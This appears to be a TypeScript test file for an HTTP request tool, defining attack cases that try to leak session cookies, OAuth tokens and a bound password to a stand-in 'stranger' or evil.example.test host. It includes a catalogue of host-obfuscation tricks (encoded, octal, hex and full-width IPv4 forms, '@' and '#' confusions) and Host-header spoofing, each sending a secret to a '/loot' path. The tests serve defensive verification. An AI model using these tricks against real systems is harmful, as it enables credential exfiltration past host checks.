/** Attacks on what is kept between requests (cookies, access tokens), and on how hosts are read. */
import { login, PASSWORD, send, type Attack, type AttackGroup } from './attack';

const SHOP_NAME = 'http://shop.example.test';
const EVIL_NAME = 'http://evil.example.test';
const BOUND = ['--secret-host', `PASSWORD=${SHOP_NAME}`];

const cookies: readonly Attack[] = [
  {
    name: 'calls another port of the host that set a session cookie',
    verdict: 'nothing-secret-arrives',
    setup: ({ stranger }) => ({ requests: [login, send(`${stranger}/plain`)] }),
  },
  {
    name: 'calls another port after a cookie was set in a redirect',
    verdict: 'nothing-secret-arrives',
    setup: ({ stranger }) => ({
      requests: [
        {
          ...login,
          method: 'GET',
          url: '{{baseUrl}}/login-in-hop',
          body: undefined,
          extract: [],
          headers: [{ name: 'X-Key', value: PASSWORD }],
        },
        send(`${stranger}/plain`),
      ],
    }),
  },
  {
    name: 'calls another port after the login of a required chain',
    verdict: 'nothing-secret-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/plain`)],
      chain: { requires: ['login.chain.json'] },
      files: { 'login.chain.json': { formatVersion: 1, name: 'Login', requests: [login] } },
    }),
  },
  ...['example.test', 'shop.example.test'].map((domain): Attack => ({
    name: `calls a sibling host after a cookie for ${domain} was set`,
    verdict: 'nothing-secret-arrives',
    setup: ({ proxy }) => ({
      environment: { variables: { baseUrl: SHOP_NAME } },
      requests: [
        { ...login, url: `{{baseUrl}}/login-for-domain/${domain}`, extract: [] },
        send(`${EVIL_NAME}/plain`),
      ],
      args: ['--proxy', proxy, ...BOUND],
    }),
  })),
];

const oauth: readonly Attack[] = [
  {
    name: 'sends an access token that was gained with the password',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        send(`${stranger}/loot`, {
          auth: {
            type: 'oauth2',
            grant: 'clientCredentials',
            tokenUrl: '{{baseUrl}}/token',
            clientId: 'a',
            clientSecret: PASSWORD,
          },
        }),
      ],
    }),
  },
  {
    name: 'sends an access token of the password grant by the authentication of the chain',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [send(`${stranger}/loot`)],
      chain: {
        auth: {
          type: 'oauth2',
          grant: 'password',
          tokenUrl: '{{baseUrl}}/token',
          clientId: 'a',
          username: 'ann',
          password: PASSWORD,
        },
      },
    }),
  },
  {
    name: 'gains an access token with an extracted token at the stranger',
    verdict: 'nothing-arrives',
    setup: ({ stranger }) => ({
      requests: [
        login,
        send('{{baseUrl}}/home', {
          auth: {
            type: 'oauth2',
            grant: 'clientCredentials',
            tokenUrl: `${stranger}/token`,
            clientId: 'a',
            clientSecret: '{{token}}',
          },
        }),
      ],
    }),
  },
];

/** Ways to write the stranger's host so that it looks like another one. */
const HOSTS: readonly (readonly [name: string, url: (port: number, shop: string) => string])[] = [
  ['the shop as the user of the URL', (port, shop) => `${shop}@127.0.0.1:${port}/loot`],
  ['a backslash after the shop', (port, shop) => `${shop}\\@127.0.0.1:${port}/loot`],
  ['a fragment before the host', (port, shop) => `http://127.0.0.1:${port}#@${shop.slice(7)}/loot`],
  ['a host with a trailing dot', (port) => `http://localhost.:${port}/loot`],
  ['a host in capitals', (port) => `http://LOCALHOST:${port}/loot`],
  ['a scheme in capitals', (port) => `HTTP://127.0.0.1:${port}/loot`],
  ['a short IPv4 address', (port) => `http://127.1:${port}/loot`],
  ['a decimal IPv4 address', (port) => `http://2130706433:${port}/loot`],
  ['a hexadecimal IPv4 address', (port) => `http://0x7f.0.0.1:${port}/loot`],
  ['an octal IPv4 address', (port) => `http://0177.0.0.1:${port}/loot`],
  ['the unspecified address', (port) => `http://0.0.0.0:${port}/loot`],
  ['an IPv4 address inside IPv6', (port) => `http://[::ffff:127.0.0.1]:${port}/loot`],
  ['full-width digits', (port) => `http://１２７.0.0.1:${port}/loot`],
  ['ideographic dots', (port) => `http://127。0。0。1:${port}/loot`],
  ['a percent-encoded host', (port) => `http://127%2e0%2e0%2e1:${port}/loot`],
  ['a host with a tab', (port) => `http://127.0.\t0.1:${port}/loot`],
  ['another loopback address', (port) => `http://127.0.0.2:${port}/loot`],
];

const hosts: readonly Attack[] = HOSTS.map(([way, url]) => ({
  name: `writes the password into a request to ${way}`,
  verdict: 'nothing-secret-arrives',
  setup: ({ strangerPort, shop }) => ({
    requests: [send(url(strangerPort, shop), { headers: [{ name: 'X-Key', value: PASSWORD }] })],
  }),
}));

const hostHeaders: readonly Attack[] = [
  ['Host', EVIL_NAME.slice(7)],
  ['host', `${EVIL_NAME.slice(7)}:80`],
].map(([name = '', value = '']) => ({
  name: `names the stranger in the header ${name}: ${value}`,
  verdict: 'nothing-secret-arrives',
  setup: ({ proxy }) => ({
    environment: { variables: { baseUrl: SHOP_NAME } },
    requests: [
      send('{{baseUrl}}/loot', {
        headers: [
          { name, value },
          { name: 'X-Key', value: PASSWORD },
        ],
      }),
    ],
    args: ['--proxy', proxy, ...BOUND],
  }),
}));

/** What is kept between requests. */
export const sessions: AttackGroup = { name: 'cookies and access tokens', attacks: [...cookies, ...oauth] };

/** How hosts are read. */
export const hostTricks: AttackGroup = { name: 'host tricks', attacks: [...hosts, ...hostHeaders] };
